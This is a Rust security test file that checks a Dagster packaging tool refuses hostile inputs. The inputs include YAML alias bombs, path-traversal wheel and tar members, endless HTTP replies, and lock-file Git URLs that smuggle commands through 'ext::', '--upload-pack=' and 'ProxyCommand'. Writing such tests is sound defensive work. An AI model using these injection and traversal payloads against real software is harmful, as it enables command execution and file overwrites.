//! Hostile files and servers against the program itself, which runs with 1 GiB of address space and 60 s of processor
//! time: each is refused by name within them, and nothing is written or removed elsewhere.

#![cfg(target_os = "linux")]

use crate::support::said::messages;
use crate::support::small_project::{write_wheel, write_wheels};
use crate::support::{environments, pexpress, pexpress_with_uv, project_tree};
use sha2::{Digest, Sha256};
use std::fmt::Write as _;
use std::fs::File;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::{Command, Output};

/// The same command under both limits.
fn limited(command: &Command) -> Command {
    let mut shell = Command::new("sh");
    shell.args(["-c", "ulimit -v 1048576; ulimit -t 60; exec \"$0\" \"$@\""]);
    shell.arg(command.get_program()).args(command.get_args());
    for (name, value) in command.get_envs() {
        match value {
            Some(value) => shell.env(name, value),
            None => shell.env_remove(name),
        };
    }
    shell
}

/// Run in `dir`. Returns the error, which has to be one of ours.
fn refusal(dir: &Path, arguments: &[&str], env: &[(&str, &str)]) -> String {
    let mut command = pexpress();
    command.args(arguments).envs(env.iter().copied());
    let output = limited(&command).current_dir(dir).output().unwrap();
    said(&output)
}

fn said(output: &Output) -> String {
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let code = output.status.code();
    assert!(matches!(code, Some(1..=4)), "{code:?} {:?}: {stderr:.2000}", output.status);
    assert!(stderr.contains("error: ") && stderr.len() < 10_000, "{} bytes: {stderr:.2000}", stderr.len());
    stderr
}

/// A sparse file with this size.
fn sparse(path: &Path, bytes: u64) {
    File::create(path).unwrap().set_len(bytes).unwrap();
}

const LOCATIONS: &str = "locations:\n  - location_name: one\n    code_source: {module_name: one}\n";
const DRY_RUN: [&str; 4] = ["deps", ".", "out", "--dry-run"];

#[test]
fn huge_and_endless_files_are_refused_by_name() {
    for (name, command) in [
        ("dagster_cloud.yaml", &["check", "."][..]),
        ("requirements.txt", &DRY_RUN[..]),
        ("pyproject.toml", &DRY_RUN[..]),
        ("pylock.toml", &DRY_RUN[..]),
        ("poetry.lock", &DRY_RUN[..]),
    ] {
        for endless in [false, true] {
            let project = project_tree(&[("requirements.txt", "dagster\ndagster-cloud\n")]);
            let path = project.path().join(name);
            let _ = std::fs::remove_file(&path);
            match endless {
                true => symlink("/dev/zero", &path).unwrap(),
                false => sparse(&path, 8 << 30),
            }
            // A device is not a regular file, so most readers do not open it.
            if endless && name != "dagster_cloud.yaml" && !path.is_file() {
                continue;
            }
            let text = match endless {
                true => refusal(project.path(), &["check", name], &[]),
                false => refusal(project.path(), command, &[]),
            };
            assert!(text.contains(name), "{name}: {text}");
        }
    }
}

#[test]
fn yaml_that_expands_or_nests_without_end_is_refused_with_its_line() {
    let mut bomb = String::from("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for level in 1..40 {
        let before = level - 1;
        writeln!(bomb, "a{level}: &a{level} [*a{before}, *a{before}, *a{before}, *a{before}]").unwrap();
    }
    let merges = (1..200).fold(String::from("a0: &a0 {k: v}\n"), |text, level| {
        let pairs = (0..100).map(|at| format!("k{level}_{at}: v")).collect::<Vec<_>>().join(", ");
        text + &format!("a{level}: &a{level} {{<<: *a{}, {pairs}}}\n", level - 1)
    });
    for (text, reason) in [
        (bomb, "with its aliases expanded"),
        (merges, "`<<` merges too much"),
        (format!("a: {}", "[".repeat(1 << 20)), "are inside one another"),
        ("- ".repeat(1 << 20), "are inside one another"),
        ("a: &a [*a]\n".to_string(), "refers to nothing that is complete"),
    ] {
        let project = project_tree(&[("dagster_cloud.yaml", &text)]);
        let text = refusal(project.path(), &["check", "."], &[]);
        assert!(text.contains(reason) && text.contains("dagster_cloud.yaml:"), "{text}");
    }
}

#[test]
fn requirements_that_would_take_forever_are_refused_with_their_line() {
    let tangle = (0..60).map(|at| format!("(extra == 'a{at:02}' and extra == 'b{at:02}')"));
    let tangle = tangle.collect::<Vec<_>>().join(" or ");
    let chain: Vec<(String, String)> =
        (0..1000).map(|at| (format!("r{at}.txt"), format!("-r r{}.txt\n", at + 1))).collect();
    for (text, reason) in [
        (format!("a\nb; {tangle}\n"), "requirements.txt:2"),
        (format!("a; {}\n", "(".repeat(1 << 20)), "longer than 16384 bytes"),
        (format!("a; {}os_name == 'a'\n", "(".repeat(8000)), "nested brackets"),
        (format!("a[{}]\n", "x,".repeat(1 << 20)), "longer than 16384 bytes"),
        ("-r r0.txt\n".to_string(), "more than 200 requirements files"),
    ] {
        let mut files = vec![("requirements.txt", text.as_str())];
        files.extend(chain.iter().map(|(name, text)| (name.as_str(), text.as_str())));
        files.push(("r1000.txt", "dagster\n"));
        let project = project_tree(&files);
        let text = refusal(project.path(), &DRY_RUN, &[]);
        assert!(text.contains(reason), "{text}");
    }
}

#[test]
fn requirements_files_that_name_one_another_in_a_circle_are_read_once() {
    let project = project_tree(&[
        ("requirements.txt", "-r a.txt\n"),
        ("a.txt", "-r b.txt\n-c b.txt\n"),
        ("b.txt", "-r a.txt\n-r requirements.txt\nno version at all\n"),
    ]);
    let text = refusal(project.path(), &DRY_RUN, &[]);
    assert!(text.contains("b.txt:3"), "{text}");
}

#[test]
fn toml_of_absurd_depth_is_refused() {
    for text in [
        format!("a = {}", "[".repeat(1 << 20)),
        format!("[{}a]", "a.".repeat(1 << 20)),
        format!("a = {}", "{a=".repeat(1 << 18)),
    ] {
        let project = project_tree(&[("pyproject.toml", &text)]);
        let text = refusal(project.path(), &DRY_RUN, &[]);
        assert!(text.contains("pyproject.toml"), "{text}");
    }
}

/// Users did not notice: a digest became part of a path in the cache, and the file there was removed as damaged.
#[test]
fn a_lock_file_cannot_name_files_outside_the_cache() {
    let victim = project_tree(&[("thesis/final.txt", "years of work")]);
    let path = victim.path().join("thesis/final.txt");
    let up = "../".repeat(20);
    let (directory, absolute) = (victim.path().display(), path.display());
    for file in [
        format!(
            "name = 'final.txt', url = 'file:///x.whl', hashes = {{ sha256 = '{up}{directory}/thesis' }}"
        ),
        format!("name = '{up}{absolute}', url = 'file:///bin/sh'"),
        format!("name = '{absolute}', url = 'file:///bin/sh'"),
    ] {
        let lock = format!(
            "lock-version = '1.0'\ncreated-by = 'x'\n[[packages]]\nname = 'a'\narchive = {{ {file} }}\n"
        );
        let project = project_tree(&[("pylock.toml", &lock), ("requirements.txt", "a\n")]);
        let text = refusal(project.path(), &["deps", ".", "out"], &[]);
        assert!(text.contains("pylock.toml") && text.contains("file of `a`"), "{text}");
        assert_eq!(std::fs::read_to_string(&path).unwrap(), "years of work");
    }
}

/// Git runs the command in an `ext::` URL if that is allowed, which it is not by default.
#[test]
fn a_lock_file_cannot_make_git_run_commands() {
    let outside = tempfile::tempdir().unwrap();
    let mark = outside.path().join("ran");
    let commit = "0123456789".repeat(4);
    for url in [
        format!("ext::touch {}", mark.display()),
        format!("--upload-pack=touch {}", mark.display()),
        format!("ssh://-oProxyCommand=touch%20{}/x", mark.display()),
    ] {
        let package = format!(
            "[[packages]]\nname = 'a'\nvcs = {{ type = 'git', url = '{url}', commit-id = '{commit}' }}\n"
        );
        let wheels = tempfile::tempdir().unwrap();
        write_wheels(wheels.path(), 0);
        let project = locked_project(&wheels.path().join("wheels"));
        let path = project.path().join("pylock.toml");
        let own = std::fs::read_to_string(&path).unwrap();
        std::fs::write(&path, own + &package).unwrap();
        let text = refusal(project.path(), &["deps", ".", "out"], &[]);
        assert!(text.contains("could not get `a` from its Git repository"), "{text}");
        assert!(!mark.exists(), "{url}");
    }
}

#[test]
fn event_payloads_of_absurd_size_are_refused() {
    let project = project_tree(&[("dagster_cloud.yaml", LOCATIONS)]);
    let event = project.path().join("event.json");
    let env = [
        ("GITHUB_ACTIONS", "true"),
        ("GITHUB_EVENT_NAME", "pull_request"),
        ("GITHUB_EVENT_PATH", event.to_str().unwrap()),
        ("DAGSTER_CLOUD_URL", "http://127.0.0.1:9"),
        ("DAGSTER_CLOUD_API_TOKEN", "t"),
    ];
    let many = format!("[{}1]", "1,".repeat(20 << 20));
    for content in [vec![b' '; 100 << 20], many.into_bytes(), "{\"a\":".repeat(1 << 20).into_bytes()] {
        std::fs::write(&event, content).unwrap();
        let text = refusal(project.path(), &["branch-deployment"], &env);
        assert!(text.contains("event.json"), "{text}");
    }
}

/// A server with endless answers: `head`, then `body` again and again until the client disconnects.
fn endless_server(head: &'static str, body: &'static [u8]) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            std::thread::spawn(move || {
                let _ = stream.read(&mut [0; 4096]);
                let block = body.repeat(1 + (1 << 16) / body.len().max(1));
                let mut going = stream.write_all(head.as_bytes()).is_ok();
                while going {
                    going = stream.write_all(&block).is_ok();
                }
            });
        }
    });
    format!("http://{address}")
}

#[test]
fn answers_without_end_are_cut_off() {
    let heads: [(&'static str, &'static [u8]); 3] = [
        ("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n{\"data\": [", b"1,"),
        ("HTTP/1.1 200 OK\r\nContent-Length: 9000000000000\r\n\r\n{\"data\":\"", b"x"),
        ("HTTP/1.1 200 OK\r\nX-Header: ", b"x"),
    ];
    for (head, body) in heads {
        let url = endless_server(head, body);
        let dir = tempfile::tempdir().unwrap();
        let env = [("DAGSTER_CLOUD_URL", url.as_str()), ("DAGSTER_CLOUD_API_TOKEN", "t")];
        let text = refusal(dir.path(), &["status", "--deployment", "prod"], &env);
        assert!(text.contains("127.0.0.1"), "{text}");
    }
}

/// A project whose pylock.toml names the wheels in `wheels`, by their digests.
fn locked_project(wheels: &Path) -> tempfile::TempDir {
    let mut lock = String::from("lock-version = '1.0'\ncreated-by = 'test'\n");
    let mut files: Vec<_> = std::fs::read_dir(wheels).unwrap().map(|entry| entry.unwrap().path()).collect();
    files.sort();
    for path in files {
        let file_name = path.file_name().unwrap().to_str().unwrap();
        let digest = Sha256::digest(std::fs::read(&path).unwrap());
        let digest = digest.iter().fold(String::new(), |hex, byte| format!("{hex}{byte:02x}"));
        let mut parts = file_name.split('-');
        let (name, version) = (parts.next().unwrap().replace('_', "-"), parts.next().unwrap());
        let version = version.trim_end_matches(".tar.gz");
        writeln!(
            lock,
            "[[packages]]\nname = '{name}'\nversion = '{version}'\narchive = {{ path = '{}', hashes = {{ sha256 = '{digest}' }} }}",
            path.display()
        )
        .unwrap();
    }
    project_tree(&[("pylock.toml", &lock), ("requirements.txt", "dagster\ndagster-cloud\n")])
}

/// Name and content of a member.
type Content<'a> = (&'a str, &'a [u8]);

/// A wheel `evil` 1 with these members in addition to its metadata.
fn evil_wheel(wheels: &Path, members: &[Content<'_>]) {
    let file = File::create(wheels.join("evil-1-py3-none-any.whl")).unwrap();
    let mut archive = zip::ZipWriter::new(file);
    let tag: &[u8] = b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
    let own: [Content<'_>; 3] = [
        ("evil-1.dist-info/METADATA", b"Metadata-Version: 2.1\nName: evil\nVersion: 1\n"),
        ("evil-1.dist-info/WHEEL", tag),
        ("evil-1.dist-info/RECORD", b""),
    ];
    let replaced = |name: &str| members.iter().any(|(other, _)| *other == name);
    for (name, content) in own.iter().filter(|(name, _)| !replaced(name)).chain(members) {
        archive.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        archive.write_all(content).unwrap();
    }
    archive.finish().unwrap();
}

#[test]
fn hostile_wheels_are_refused_by_name() {
    let zeros = vec![0; 700 << 20];
    let mut metadata = b"Metadata-Version: 2.1\nName: evil\nVersion: 1\n".to_vec();
    let brackets =
        [metadata.clone(), format!("Requires-Dist: a; {}\n", "(".repeat(9000)).into_bytes()].concat();
    metadata.resize(20 << 20, b'x');
    let name = "evil-1.dist-info/METADATA";
    let cases: [(&[Content<'_>], &str); 7] = [
        (&[("zeros", &zeros)], "would unpack to"),
        (&[("../../escape.py", b"x")], "leaves the directory"),
        (&[("/etc/escape.py", b"x")], "absolute path"),
        (&[("evil\\..\\..\\escape.py", b"x")], "backslash"),
        (&[("evil/A.py", b"x"), ("evil/a.py", b"y")], "differs only in case"),
        (&[(name, &metadata)], "at most 16777216 are read"),
        (&[(name, &brackets)], "malformed dependency"),
    ];
    for (members, reason) in cases {
        let dir = tempfile::tempdir().unwrap();
        write_wheels(dir.path(), 0);
        evil_wheel(&dir.path().join("wheels"), members);
        let project = locked_project(&dir.path().join("wheels"));
        let cache = dir.path().join("cache");
        let text = refusal(
            project.path(),
            &["deps", ".", "out"],
            &[("PEXPRESS_CACHE_DIR", cache.to_str().unwrap())],
        );
        assert!(text.contains("evil-1-py3-none-any.whl") && text.contains(reason), "{reason}: {text}");
        // The output directory has a .gitignore; nothing else is there.
        let files = project.path().join("out").read_dir().into_iter().flatten().flatten();
        let files: Vec<_> = files.map(|file| file.file_name()).filter(|name| name != ".gitignore").collect();
        assert_eq!(files, Vec::<std::ffi::OsString>::new());
    }
}

/// The parser of requirements puts variables of the process into URLs, and messages show them.
#[test]
fn a_wheel_cannot_read_variables_of_the_process() {
    let dir = tempfile::tempdir().unwrap();
    write_wheels(dir.path(), 0);
    let metadata = b"Metadata-Version: 2.1\nName: evil\nVersion: 1\nRequires-Dist: nowhere @ https://h.example/${CANARY}\n";
    evil_wheel(&dir.path().join("wheels"), &[("evil-1.dist-info/METADATA", metadata)]);
    let project = locked_project(&dir.path().join("wheels"));
    let cache = dir.path().join("cache");
    let env = [("PEXPRESS_CACHE_DIR", cache.to_str().unwrap()), ("CANARY", "the-token-of-production")];
    let text = refusal(project.path(), &["deps", ".", "out"], &env);
    insta::assert_snapshot!(messages(&text), @r#"
    error: the distributions do not fit together:
      evil==1 requires `nowhere @ https://h.example/${CANARY}`, which is missing
    hint: correct the requirements or the lock file; overrides (`tool.uv.override-dependencies`) may do so on purpose
    "#);
    assert!(!text.contains("the-token-of-production"), "{text}");
}

#[test]
fn a_giant_record_is_not_even_read() {
    let dir = tempfile::tempdir().unwrap();
    write_wheels(dir.path(), 0);
    let mut state = 1_u32;
    let noise: Vec<u8> = std::iter::repeat_with(|| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 24) as u8
    })
    .take(40 << 20)
    .collect();
    evil_wheel(&dir.path().join("wheels"), &[("evil-1.dist-info/RECORD", &noise)]);
    let project = locked_project(&dir.path().join("wheels"));
    let mut command = pexpress();
    command.args(["deps", ".", "out"]).env("PEXPRESS_CACHE_DIR", dir.path().join("cache"));
    let output = limited(&command).current_dir(project.path()).output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    // Without an index there is no PEX runtime in a new cache; everything before that succeeded.
    assert!(output.status.success() || said.contains("pex-"), "{said}");
    assert!(!said.contains("evil"), "{said}");
}

#[test]
fn a_wheel_with_another_digest_than_the_lock_has_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    write_wheels(dir.path(), 0);
    let wheels = dir.path().join("wheels");
    let project = locked_project(&wheels);
    write_wheel(&wheels, "dagster", "1.13.27");
    std::fs::OpenOptions::new()
        .append(true)
        .open(wheels.join("dagster-1.13.27-py3-none-any.whl"))
        .unwrap()
        .write_all(b"one byte more")
        .unwrap();
    let cache = dir.path().join("cache");
    let text =
        refusal(project.path(), &["deps", ".", "out"], &[("PEXPRESS_CACHE_DIR", cache.to_str().unwrap())]);
    assert!(text.contains("`dagster-1.13.27-py3-none-any.whl`") && text.contains("SHA-256"), "{text}");
}

/// Links out of the project are shipped with a message that names their target.
#[test]
fn links_out_of_the_project_are_reported_as_shipped() {
    let secret = project_tree(&[("keys/id", "k")]);
    let project = project_tree(&[("requirements.txt", "dagster\n"), ("mod.py", "")]);
    symlink(secret.path().join("keys"), project.path().join("data")).unwrap();
    let output =
        pexpress_with_uv().args(["source", ".", "out"]).current_dir(project.path()).output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    let target = secret.path().join("keys").canonicalize().unwrap();
    assert!(
        said.contains(&format!("`data` is a link out of the project, to `{}`", target.display())),
        "{said}"
    );
}

/// A source archive with members and links that lead out of it. Building it runs its own code anyway.
#[test]

fn source_archives_unpack_nowhere_else() {
    let dir = tempfile::tempdir().unwrap();
    write_wheels(dir.path(), 0);
    let archive = dir.path().join("wheels/evil-1.tar.gz");
    let script = "import io, sys, tarfile\n\
        def add(name, text=b'', link=None):\n    \
        info = tarfile.TarInfo(name)\n    info.size = 0 if link else len(text)\n    \
        if link: info.type, info.linkname = tarfile.SYMTYPE, link\n    \
        out.addfile(info, io.BytesIO(text))\n\
        with tarfile.open(sys.argv[1], 'w:gz') as out:\n    \
        add('evil-1/pyproject.toml', b'[build-system]\\nrequires = []\\nbuild-backend = \"b\"\\nbackend-path = [\".\"]\\n')\n    \
        add('evil-1/b.py', b'raise SystemExit(\"built\")\\n')\n    \
        add('../escaped', b'x')\n    add('evil-1/out', link=sys.argv[2])\n    add('evil-1/out/through-link', b'x')\n";
    let outside = dir.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    let python = environments::python(environments::helper_version());
    crate::support::run(Command::new(python).args(["-c", script]).args([&archive, &outside]));
    for subdirectory in ["", ", subdirectory = '.'"] {
        let project = locked_project(&dir.path().join("wheels"));
        let path = project.path().join("pylock.toml");
        let lock = std::fs::read_to_string(&path).unwrap();
        let mark = format!("{}', hashes", archive.display());
        let lock = lock.replace(&mark, &format!("{}'{subdirectory}, hashes", archive.display()));
        std::fs::write(&path, lock).unwrap();
        let cache = dir.path().join("cache");
        let output = pexpress_with_uv()
            .args(["deps", ".", "out"])
            .env("PEXPRESS_CACHE_DIR", &cache)
            .current_dir(project.path())
            .output()
            .unwrap();
        let text = said(&output);
        assert!(text.contains("evil-1.tar.gz"), "{text}");
        assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0, "{text}");
        for escaped in [cache.join("escaped"), cache.join("building/escaped")] {
            assert!(!escaped.exists(), "{}", escaped.display());
        }
    }
}
